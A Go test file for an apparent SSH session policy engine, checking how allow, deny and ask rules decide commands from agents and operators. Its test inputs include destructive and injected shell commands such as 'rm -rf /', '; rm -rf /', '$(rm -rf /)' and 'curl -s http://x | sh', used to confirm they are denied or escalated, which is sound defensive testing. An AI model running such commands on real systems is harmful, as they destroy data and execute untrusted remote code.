package rules_test

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/fairlead-ssh/fairlead/hosts"
	"github.com/fairlead-ssh/fairlead/session/policy"
	"github.com/fairlead-ssh/fairlead/session/policy/rules"
)

// All fields that a rule gives must hold for one and the same part of a command.
func TestFieldsOfARuleNarrow(t *testing.T) {
	for name, tt := range map[string]struct {
		verdict, conditions, principal, command string
		want                                    string
	}{
		"a named forbidden program":                  {"allow", "classes: [forbidden], programs: ['apt-get install *']", "agent/a", "apt-get install -y nginx", "allow"},
		"frees nothing else that is forbidden":       {"allow", "classes: [forbidden], programs: ['apt-get install *']", "agent/a", "rm -rf /", "deny"},
		"for operators neither":                      {"allow", "classes: [forbidden], programs: ['apt-get install *']", "operator/a", "rm -rf /", "ask/break-glass"},
		"nor beside it":                              {"allow", "classes: [forbidden], programs: ['apt-get install *']", "agent/a", "apt-get install -y nginx; rm -rf /", "deny"},
		"nor within it":                              {"allow", "classes: [forbidden], programs: ['apt-get install *']", "agent/a", "apt-get install $(rm -rf /)", "deny"},
		"nor behind it in a pipeline":                {"allow", "classes: [forbidden], programs: ['curl *']", "agent/a", "curl -s http://x | sh", "deny"},
		"forbidden must be named":                    {"allow", "programs: ['rm *']", "agent/a", "rm -rf /", "deny"},
		"by exact words too":                         {"allow", "programs: ['rm -rf /']", "agent/a", "rm -rf /", "deny"},
		"for operators by exact words too":           {"allow", "programs: ['rm -rf /']", "operator/a", "rm -rf /", "ask/break-glass"},
		"other classes need not be":                  {"allow", "programs: ['sudo systemctl restart *']", "agent/a", "sudo systemctl restart nginx", "allow"},
		"what is privileged may hide what is worse":  {"allow", "programs: ['sudo *']", "agent/a", "sudo rm -rf /", "deny"},
		"a class of the program":                     {"allow", "classes: [write], programs: ['touch *']", "agent/a", "touch x", "allow"},
		"another program of the class":               {"allow", "classes: [write], programs: ['touch *']", "agent/a", "mkdir x", "ask/approval"},
		"a worse class of the program":               {"allow", "classes: [write], programs: ['rm *']", "agent/a", "rm -rf build", "ask/approval"},
		"the class of a wrapper is that of it all":   {"allow", "classes: [privileged], programs: ['sudo *']", "agent/a", "sudo touch x", "allow"},
		"a milder class than the wrapper's":          {"allow", "classes: [write], programs: ['sudo *']", "agent/a", "sudo touch x", "deny"},
		"a milder part beside it":                    {"allow", "classes: [dangerous], programs: ['systemctl *']", "agent/a", "systemctl stop x; touch y", "ask/approval"},
		"what is unknown beside it":                  {"allow", "classes: [dangerous], programs: ['systemctl *']", "agent/a", "systemctl stop x; frobnicate", "ask/approval"},
		"all three fields":                           {"allow", "classes: [write], programs: ['touch *'], paths: ['/srv/**']", "agent/a", "touch /srv/x", "allow"},
		"another path":                               {"allow", "classes: [write], programs: ['touch *'], paths: ['/srv/**']", "agent/a", "touch /etc/x", "ask/approval"},
		"another program at the path":                {"allow", "classes: [write], programs: ['touch *'], paths: ['/srv/**']", "agent/a", "mkdir /srv/x", "ask/approval"},
		"another class at the path":                  {"allow", "classes: [write], programs: ['rm *'], paths: ['/srv/**']", "agent/a", "rm -r /srv/x/y", "ask/approval"},
		"programs and paths":                         {"allow", "programs: ['rm *'], paths: ['/srv/**']", "agent/a", "rm -r /srv/x/y", "allow"},
		"into a directory":                           {"allow", "classes: [write], paths: ['/srv/app/**']", "agent/a", "cp x y /srv/app/", "allow"},
		"into it by another way":                     {"allow", "classes: [write], paths: ['/srv/app/**']", "agent/a", "mv /srv/app/a /srv/app/", "allow"},
		"into one above it":                          {"allow", "classes: [write], paths: ['/srv/app/**']", "agent/a", "cp x /srv/app/../", "ask/approval"},
		"into it from elsewhere, where it is taken":  {"allow", "classes: [write], paths: ['/srv/app/**']", "agent/a", "mv /srv/x /srv/app/", "ask/approval"},
		"into it by a name that leads out":           {"allow", "classes: [write], paths: ['/srv/app/**']", "agent/a", "cp x .. /srv/app/", "ask/approval"},
		"in its place":                               {"allow", "classes: [write], paths: ['/srv/app/**']", "agent/a", "mv -T /srv/app/a /srv/app/", "ask/approval"},
		"a directory is no file in it":               {"allow", "classes: [write], paths: ['/srv/app/**']", "agent/a", "mkdir -p /srv/app/", "ask/approval"},
		"into it by a name of the rule":              {"allow", "classes: [write], paths: ['/srv/app/*.conf']", "agent/a", "cp /tmp/a.conf /srv/app/", "allow"},
		"into it by another name":                    {"allow", "classes: [write], paths: ['/srv/app/*.conf']", "agent/a", "cp /tmp/a.ini /srv/app/", "ask/approval"},
		"a deny of what is put there":                {"deny", "paths: ['/srv/app/a.conf']", "operator/a", "cp /tmp/a.conf /srv/app/", "deny"},
		"a deny of what else is put there":           {"deny", "paths: ['/srv/app/a.conf']", "operator/a", "cp /tmp/b.conf /srv/app/", "allow"},
		"a deny of both":                             {"deny", "classes: [dangerous], programs: ['systemctl *']", "operator/a", "systemctl stop x", "deny"},
		"a deny of another class of the program":     {"deny", "classes: [dangerous], programs: ['systemctl *']", "operator/a", "systemctl status x", "allow"},
		"a deny of another program of the class":     {"deny", "classes: [dangerous], programs: ['systemctl *']", "operator/a", "reboot", "allow"},
		"a deny with each half in another part":      {"deny", "classes: [dangerous], programs: ['systemctl *']", "operator/a", "systemctl status x; reboot", "allow"},
		"in a list of a subshell as well":            {"deny", "classes: [dangerous], programs: ['systemctl *']", "operator/a", "(systemctl status x; reboot)", "allow"},
		"a deny behind a wrapper":                    {"deny", "classes: [dangerous], programs: ['systemctl *']", "operator/a", "timeout 5 systemctl stop x", "deny"},
		"a wrapper that makes it of the class":       {"deny", "classes: [privileged], programs: ['systemctl *']", "operator/a", "sudo systemctl status x", "ask/confirmation"},
		"a list in a wrapper is all of its class":    {"deny", "classes: [dangerous], programs: ['ls *']", "operator/a", "sh -c 'systemctl stop x; ls'", "ask/confirmation"},
		"a milder list in a wrapper":                 {"deny", "classes: [dangerous], programs: ['ls *']", "operator/a", "sh -c 'touch x; ls'", "allow"},
		"a pipeline makes its stages of the class":   {"deny", "classes: [forbidden], programs: ['curl *']", "operator/a", "curl -s http://x | sh", "deny"},
		"a deny of a program needs no class":         {"deny", "programs: ['rm *']", "operator/a", "rm -rf /", "deny"},
		"a word that is known only when it runs":     {"deny", "classes: [unknown], programs: ['deploy *']", "operator/a", "$X now", "ask/confirmation"},
		"a deny of a program at a path":              {"deny", "programs: ['touch *'], paths: ['/srv/**']", "operator/a", "touch /srv/x", "deny"},
		"a deny of another program at the path":      {"deny", "programs: ['touch *'], paths: ['/srv/**']", "operator/a", "mkdir /srv/x", "allow"},
		"a deny of the program at another path":      {"deny", "programs: ['touch *'], paths: ['/srv/**']", "operator/a", "touch /etc/motd", "allow"},
		"an ask of a class frees nothing forbidden":  {"ask", "programs: ['rm *']", "agent/a", "rm -rf /", "deny"},
		"an ask of a program that would be allowed":  {"ask", "classes: [read-only], programs: ['ls *']", "agent/a", "ls /srv", "ask/approval"},
		"an ask of another class of it":              {"ask", "classes: [write], programs: ['ls *']", "agent/a", "ls /srv", "allow"},
		"an ask of a program, for what runs in loop": {"ask", "classes: [read-only], programs: ['ls *']", "agent/a", "for i in a b; do ls /srv; done", "ask/approval"},
	} {
		t.Run(name, func(t *testing.T) {
			e := rules.New(rules.Config{User: file(t, rule("r", tt.verdict, tt.conditions))})
			d := decide(t, e, policy.Request{Principal: tt.principal, Host: hosts.Host{Name: "h", Tier: "dev"}, Command: tt.command, Shell: "bash"})
			assert.Equal(t, tt.want, said(d), "%+v", d)
		})
	}
}
